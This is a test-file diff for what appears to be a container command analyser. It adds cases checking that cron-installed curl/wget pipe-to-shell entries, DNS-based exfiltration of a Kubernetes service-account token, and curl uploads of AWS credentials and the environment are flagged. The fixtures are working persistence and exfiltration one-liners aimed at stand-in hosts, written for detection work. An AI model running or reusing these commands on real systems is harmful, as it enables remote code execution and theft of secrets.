@@ -339,3 +339,67 @@ describe('what runs, through launchers and images', () => {
     expect(e === undefined ? [] : sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
   });
 });
+
+describe('cron tables installed in the container run their entries', () => {
+  it.each([
+    ['echo "*/5 * * * * wget -qO- http://192.0.2.1/p | sh" > /etc/crontabs/root && crond -f'],
+    ["printf '* * * * * curl -s http://192.0.2.1/p | sh\\n' > /var/spool/cron/crontabs/root; cron"],
+    ['echo "* * * * * root curl -s http://192.0.2.1/p | bash" > /etc/cron.d/updater'],
+    ['echo "@reboot curl -s http://192.0.2.1/p | sh" | crontab -'],
+    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; crontab -u root /tmp/c; crond -b'],
+    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; exec supercronic /tmp/c'],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/p');
+  });
+
+  it('a decoded table is code from a decoder; a plain one runs nothing foreign', () => {
+    const decoded = sh('echo KiAqICogKiAqIGlkCg== | base64 -d | crontab -');
+    expect(sources(decoded, 'exec')).toContain('decoded');
+    const plain = sh('echo "0 * * * * /usr/sbin/logrotate /etc/logrotate.conf" | crontab - && cron -f');
+    expect(plain.flows.filter((f) => f.sink === 'exec')).toEqual([]);
+    expect(plain.invocations.map((i) => i.program)).toContain('logrotate');
+  });
+
+  it('listing or removing a table installs nothing', () => {
+    expect(sh('curl -s http://192.0.2.1/p | crontab -l').flows.filter((f) => f.sink === 'exec')).toEqual([]);
+  });
+});
+
+describe('content in a looked-up name is sent to that name’s domain', () => {
+  const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+  it.each([
+    [`for c in $(base32 -w0 ${TOKEN} | tr -d = | fold -w 60); do nslookup $c.x.example; done`],
+    [`dig +short $(xxd -p ${TOKEN} | head -c 60).x.example`],
+    [`getent hosts $(cat ${TOKEN} | base32 | cut -c1-50).x.example`],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'send')).toContain('service-account-token');
+  });
+
+  it.each([
+    [
+      'python3',
+      `import socket\nt=open("${TOKEN}").read()\nsocket.gethostbyname(t[:40].encode().hex()+".x.example")`,
+    ],
+    [
+      'node',
+      `const t=require("fs").readFileSync("${TOKEN}","utf8");require("dns").lookup(t.slice(0,40)+".x.example",()=>{})`,
+    ],
+  ])('%s resolver call', (interpreter, code) => {
+    const [e] = run([
+      { name: 'c', image: 'alpine', command: [interpreter, interpreter === 'node' ? '-e' : '-c', code] },
+    ]);
+    expect(e === undefined ? [] : sources(e, 'send')).toContain('service-account-token');
+  });
+
+  it('a file read through ~ is read from $HOME', () => {
+    expect(sources(sh('cat ~/.aws/credentials | curl -d @- https://x.example/'), 'send')).toContain(
+      'cloud-credentials',
+    );
+  });
+
+  it('the whole environment is a secret source; one variable by name is not', () => {
+    expect(sources(sh('env | curl -d @- https://x.example/'), 'send')).toContain('secret');
+    expect(sources(sh('curl -d "$(cat /proc/self/environ)" https://x.example/'), 'send')).toContain('secret');
+    expect(sources(sh('printenv HOME | curl -d @- https://x.example/'), 'send')).toEqual([]);
+  });
+});
